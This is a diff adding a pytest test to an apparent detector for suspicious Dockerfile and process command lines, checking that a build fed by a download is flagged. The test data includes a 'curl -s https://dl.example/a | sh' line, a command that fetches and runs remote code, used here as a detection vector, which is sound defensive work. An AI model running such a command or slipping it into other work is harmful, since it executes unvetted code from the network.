@@ -16,6 +16,7 @@ from t1612core import Detector, score_dockerfile
 from .conftest import ROOT
 
 VECTORS = json.loads((ROOT / "tests" / "vectors" / "run_lines.json").read_text("utf-8"))
+STARTED = json.loads((ROOT / "tests" / "vectors" / "started_texts.json").read_text("utf-8"))
 DOWNLOADED = {
     "code_download",
     "eval_download",
@@ -58,3 +59,34 @@ def test_a_dockerfile_and_a_parents_line_show_the_same(vector: dict[str, Any]) -
     assert vector["shows"] == of_dockerfile(line)
     assert vector["shows"] == of_parent(f"bash -c {shlex.quote(f'{line}; docker build -t a .')}")
     assert vector["shows"] == of_parent(line, program="")
+
+
+def fed(event: dict[str, str]) -> bool:
+    """Whether a build of an event is seen to read a download."""
+    (branch,) = DETECTOR.explain(event, kind="process").branches
+    return any(
+        each.evidence and each.signal.id == "process.piped_download" for each in branch.signals
+    )
+
+
+@pytest.mark.parametrize("vector", STARTED, ids=lambda vector: vector["id"])
+def test_one_notion_of_what_a_command_starts(vector: dict[str, Any]) -> None:
+    """What runs a download, in ``RUN`` and in a parent's line, runs a build that reads one.
+
+    In the line of the process and in its parent's.
+    """
+    runs = vector["line"].replace("{}", shlex.quote("curl -s https://dl.example/a | sh"))
+    build = shlex.quote("curl -s https://dl.example/a | docker build -")
+    builds = f"bash -c {shlex.quote(vector['line'].replace('{}', build))}"
+    own = {"FileName": "bash", "ProcessCommandLine": builds}
+    parents = {
+        "FileName": "docker",
+        "ProcessCommandLine": "docker build -",
+        "InitiatingProcessFileName": "bash",
+        "InitiatingProcessCommandLine": builds,
+    }
+
+    assert "D" in of_dockerfile(runs)
+    assert "D" in of_parent(f"bash -c {shlex.quote(f'{runs}; docker build -t a .')}")
+    assert fed(own)
+    assert fed(parents)
